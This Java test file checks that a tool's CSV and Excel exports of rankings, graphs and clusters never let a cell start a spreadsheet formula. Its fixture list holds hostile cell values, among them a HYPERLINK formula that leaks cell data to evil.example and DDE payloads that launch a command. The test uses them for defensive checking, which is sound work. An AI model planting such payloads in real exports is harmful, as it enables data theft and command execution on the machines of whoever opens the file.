package io.shicheng.exporter;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import io.shicheng.disclosure.answer.DisclosedGraph;
import io.shicheng.disclosure.answer.DisclosedRanking;
import io.shicheng.disclosure.label.Label;
import io.shicheng.disclosure.overview.DisclosedClusters;
import io.shicheng.exporter.cluster.ClustersExporter;
import io.shicheng.exporter.graph.Directions;
import io.shicheng.exporter.graph.DrawnGraph;
import io.shicheng.exporter.graph.GraphFormat;
import io.shicheng.exporter.graph.file.GraphFiles;
import io.shicheng.exporter.graph.file.TableNames;
import io.shicheng.fixture.HostileInputs;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.TreeMap;
import java.util.regex.Pattern;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/** Whatever stands in whichever column of an export, no spreadsheet takes it for a formula. */
@Tag("thorough")
class FormulaExportTests {
    private static final Pattern NUMBER = Pattern.compile("-?[0-9]+(\\.[0-9]+)?([eE]-?[0-9]+)?");
    /** What a spreadsheet would begin a formula or a command with, whatever it does not show before it. */
    private static final Pattern FORMULA =
            Pattern.compile("[\\s\\p{Z}\\p{Cf}\\p{Cntrl}]*[=+\\-@|%＝＋－＠−].*", Pattern.DOTALL);

    private static final List<String> FORMULAS = formulas();

    private static List<String> formulas() {
        List<String> formulas = new ArrayList<>();
        for (String before :
                List.of("", " ", "\t", "\r", "\n", "\u00A0", "\u3000", "\u200B", "\uFEFF", "\u202E", "\u0000")) {
            for (String formula : List.of(
                    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
                    "=cmd|' /C calc'!A0",
                    "+1+cmd|' /C calc'!A0",
                    "-1+1",
                    "@SUM(1+1)",
                    "＝1+1",
                    "＋1",
                    "－1",
                    "＠SUM(1)",
                    "−1",
                    "%0A=1",
                    "|=1")) {
                formulas.add(before + formula);
            }
        }
        formulas.add("a;=1+1");
        formulas.add("a; =cmd|' /C calc'!A0;b");
        formulas.add("a;\u200B@SUM(1)");
        return formulas;
    }

    @FunctionalInterface
    private interface Writer {
        void write(ByteArrayOutputStream out) throws IOException;
    }

    private static byte[] bytes(Writer writer) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        writer.write(out);
        return out.toByteArray();
    }

    private static void assertHarmless(String formula, Writer csv) throws IOException {
        String text = new String(bytes(csv), StandardCharsets.UTF_8);
        for (CsvRecord record : CsvReader.builder().ofCsvRecord(text)) {
            for (String cell : record.getFields()) {
                // where lists are separated by semicolons, a spreadsheet cuts a cell there
                for (String piece : cell.split(";")) {
                    boolean number = NUMBER.matcher(piece).matches();
                    assertThat(number || !FORMULA.matcher(piece).matches())
                            .as(formula + " in " + cell)
                            .isTrue();
                }
            }
        }
    }

    private static DisclosedRanking ranking(String text) {
        return new DisclosedRanking(
                "students",
                "none",
                "open",
                120,
                60,
                60,
                1,
                List.of(new DisclosedRanking.Row(
                        1,
                        1,
                        new Label.Named(text, text, text, text, null),
                        -12.0,
                        1,
                        2,
                        null,
                        1,
                        0,
                        9,
                        text,
                        new DisclosedRanking.WithoutSource(1, 7, text, 4, 3, 12, 0.5))),
                List.of(new DisclosedRanking.ClassRow(11, 25, 1, 11, 50, text, List.of(text))),
                null,
                new DisclosedRanking.None(0, 0),
                null,
                null,
                List.of(),
                null,
                new TreeMap<>(Map.of("snapshot", text, text, "x")));
    }

    private static DisclosedGraph graph(String text) {
        return new DisclosedGraph(
                true,
                List.of(
                        new DisclosedGraph.Node(
                                text, new Label.Named(text, null, text, text, null), text, text, text, true),
                        new DisclosedGraph.Node("2", new Label.Pseudonymous(text), "person", null, null, false)),
                List.of(new DisclosedGraph.Edge(0, 1, text, true, 1, text, text, null, null, text)),
                7,
                12,
                new TreeMap<>(Map.of("snapshot", text)));
    }

    private static DisclosedClusters clusters(String text) {
        return new DisclosedClusters(
                List.of(
                        new DisclosedClusters.Cluster(text, 20, 1, 2, 3, 4, 0.1, List.of(5)),
                        new DisclosedClusters.Cluster(null, null, 0, 0, 0, 0, null, List.of(0))),
                List.of(new DisclosedClusters.Span(1990, 1999)),
                new DisclosedClusters.Matrix(
                        List.of(text), List.of(text), List.of(new DisclosedClusters.Cell(0, 0, 12, 2, true))),
                new DisclosedClusters.Matrix(
                        List.of(text), List.of(text), List.of(new DisclosedClusters.Cell(0, 1, 12, 2, false))),
                List.of(new DisclosedClusters.Bridge(
                        text,
                        text,
                        12,
                        true,
                        List.of(new DisclosedClusters.Bridging(new Label.Named(text, text, text, text, null), 2)),
                        1,
                        0)),
                new TreeMap<>(Map.of("snapshot", text, text, "x")));
    }

    @Test
    void noColumnOfARankingOrAGraphStartsAFormula() throws IOException {
        for (String formula : FORMULAS) {
            for (Locale language : List.of(Locale.ENGLISH, Locale.CHINESE)) {
                assertHarmless(formula, out -> RankingExporter.csv(ranking(formula), out));
                assertNoFormula(bytes(out -> RankingExporter.xlsx(ranking(formula), language, out)));
                assertNoFormula(
                        bytes(out -> ClustersExporter.xlsx(clusters(formula), language, (_, code) -> code, out)));
            }
            assertHarmless(formula, out -> ClustersExporter.csv(clusters(formula), out));
            assertHarmless(formula, out -> GraphExporter.nodesCsv(graph(formula), out));
            assertHarmless(formula, out -> GraphExporter.edgesCsv(graph(formula), out));
            DrawnGraph drawn = DrawnGraph.of(graph(formula), Directions.MIXED, false);
            for (GraphFiles.NamedFile table : GraphFiles.tables(drawn, GraphFormat.GEPHI, TableNames.alone())
                    .subList(0, 2)) {
                assertHarmless(formula, table.content()::write);
            }
            assertNoFormula(bytes(out -> GraphExporter.write(drawn, GraphFormat.XLSX, Locale.ENGLISH, out)));
        }
        HostileInputs.tried("formulas in every column of exports", 28 * FORMULAS.size());
    }

    private static void assertNoFormula(byte[] workbook) throws IOException {
        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(workbook))) {
            for (int i = 0; i < book.getNumberOfSheets(); i++) {
                assertNoFormula(book.getSheetAt(i));
            }
        }
    }

    private static void assertNoFormula(XSSFSheet sheet) {
        for (Row row : sheet) {
            for (Cell cell : row) {
                assertThat(cell.getCellType())
                        .isIn(CellType.STRING, CellType.NUMERIC, CellType.BOOLEAN, CellType.BLANK);
                if (cell.getCellType() == CellType.STRING
                        && FORMULA.matcher(cell.getStringCellValue()).matches()) {
                    assertThat(cell.getCellStyle().getQuotePrefixed())
                            .as(cell.getStringCellValue())
                            .isTrue();
                }
            }
        }
    }
}
